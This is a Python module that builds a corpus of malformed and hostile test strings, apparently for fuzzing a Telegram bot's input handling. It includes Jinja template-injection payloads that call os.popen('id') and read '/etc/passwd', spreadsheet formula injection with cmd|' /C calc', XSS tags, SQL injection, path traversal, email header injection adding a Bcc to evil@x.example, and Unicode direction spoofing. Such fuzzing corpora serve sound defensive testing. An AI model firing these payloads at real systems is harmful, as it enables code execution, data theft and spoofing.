"""Texts made to break, inject or mislead: written by hand, and made by their grammar."""

from __future__ import annotations

import sys
import unicodedata
from itertools import product
from typing import Final

BY_HAND: Final = (
    # templates
    "{{7*7}}",
    "{% for x in range(9**9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %n %d",
    "{0.__class__} {name} {}",
    "{name!r:>{width}}",
    # markup
    "<b>bold</b> & <script>alert(1)</script>",
    "</pre><a href='javascript:x'>pay</a>",
    "&lt;i&gt; &#x41; &nbsp;",
    "*bold* _it_ `code` [a](tg://user?id=1) ~~s~~ ||spoiler||",
    "<tg-spoiler>x</tg-spoiler>",
    # spreadsheets
    "=1+1",
    '=HYPERLINK("http://x.example","pay")',
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "\t=1+1",
    '"quoted", with; separators',
    # headers and lines
    "a\r\nBcc: evil@x.example",
    "a\nSubject: other\n\nbody",
    "=?UTF-8?Q?A=0ABcc:_evil@x.example?=",
    "line one\u2028line two\u2029three",
    "\x00nul\x00",
    "\x1b[31mred\x07",
    # direction
    "\u202eemaN desreveR",
    "Dana \u202d500\u202c",
    "\u2066isolate without end",
    "\u2069\u2069\u202c ends without begin",
    "\u200f\u200e\u061c marks",
    "דנה \u202e005",
    "Ivan (\u202egro.elpmaxe)",
    "אבג abc 123 דהו",
    # letters that are not what they seem
    "Аcme",  # a Cyrillic first letter
    "A\u0301\u0301\u0301\u0301\u0301\u0301\u0301cme",
    "Z̴͉̽a̷̘͝l̵̰̈g̶̣͌o̷͙͐",
    "ﬁrm",
    "zero\u200bwidth\u2060joiner\ufeff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "\U0001f1ee\U0001f1f1\U0001f1e9\U0001f1f0",
    "\U000e0041\U000e0042 tags",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "１２３",
    "٣٤٥",
    # words with a meaning to programs
    "null",
    "None",
    "undefined",
    "true",
    "NaN",
    "-0",
    "1e400",
    "../../etc/passwd",
    "C:\\con\\nul",
    "'; DROP TABLE clients; --",
    "__proto__",
    "/start",
    "/start@other_bot",
    "@channel",
    "https://x.example/?a=<b>&c={{d}}",
    "tg://resolve?domain=x",
    # sizes
    ".",
    "\u2800",
    "\u3164",
    "x" * 64,
    "א" * 300,
    "word " * 400,
    "\U0001f4a5" * 500,
    "(" * 200,
    "1." * 300,
)

# fmt: off
_BRACKETS: Final = (
    "{{%s}}", "{%% %s %%}", "${%s}", "#{%s}", "<%%= %s %%>", "{{=%s}}", "[[%s]]", "@(%s)", "*{%s}",
    "{%s}", "{{{%s}}}", "{# %s #}", "%%(%s)s", "$(%s)", "`%s`",
)
_COMMANDS: Final = (
    "7*7", "self.__class__", "config", "''.__class__.__mro__[1].__subclasses__()", "range(10**9)|list",
    "cycler.__init__.__globals__.os.popen('id').read()", "lipsum.__globals__['os']", "'x'*10**9",
    "for x in range(9**9)", "include '/etc/passwd'", "0.__class__", "name!r:>{width}", "name|attr('x')",
)
_STARTS: Final = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "a;=", 'a;"=', "a\t=", "'=")
_FORMULAS: Final = ("1+1", 'HYPERLINK("http://x.example","pay")', "cmd|' /C calc'!A0", "SUM(A1:A9)")
_BREAKS: Final = ("\n", "\r", "\r\n", "\n\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "%0A", "=0A")
_HEADERS: Final = (
    "Bcc: evil@x.example", "To: evil@x.example", "Subject: other", "\n\nbody", ".\r\nMAIL FROM:<x>",
)
_TAGS: Final = (
    "b", "script", "img src=x onerror=alert(1)", "a href='javascript:x'", "svg/onload=x", "style",
    "iframe src='//x.example'", "pre", "code", "tg-emoji", "tg-spoiler", "!--", "para", "font color=red",
)
_LETTERS: Final = ("x", "א", "ø", "é", "\U0001f4a5", "\U0001f468\u200d\U0001f469", "ﷺ", " x", "\n.")
_LENGTHS: Final = (41, 64, 255, 256, 257, 1023, 1024, 1025, 3999)
# fmt: on


def _unseen() -> list[str]:
    """Every control and format sign there is but for most tags, among letters and digits."""
    every = map(chr, range(sys.maxunicode + 1))
    kinds = ((sign, unicodedata.category(sign)) for sign in every)
    signs = [sign for sign, kind in kinds if kind in ("Cc", "Cf", "Zl", "Zp")]
    return [f"Da{sign}na 5{sign}0" for sign in signs if not 0xE0021 <= ord(sign) <= 0xE007E]


def naughty() -> tuple[str, ...]:
    made = [bracket % command for bracket, command in product(_BRACKETS, _COMMANDS)]
    made += [start + formula for start, formula in product(_STARTS, _FORMULAS)]
    made += [f"a{line}{header}" for line, header in product(_BREAKS, _HEADERS)]
    made += [text for tag in _TAGS for text in (f"<{tag}>x</{tag.split()[0]}>", f"&lt;{tag}&gt;")]
    made += [(letter * size)[:size] for letter, size in product(_LETTERS, _LENGTHS)]
    return tuple(dict.fromkeys((*BY_HAND, *_unseen(), *made)))
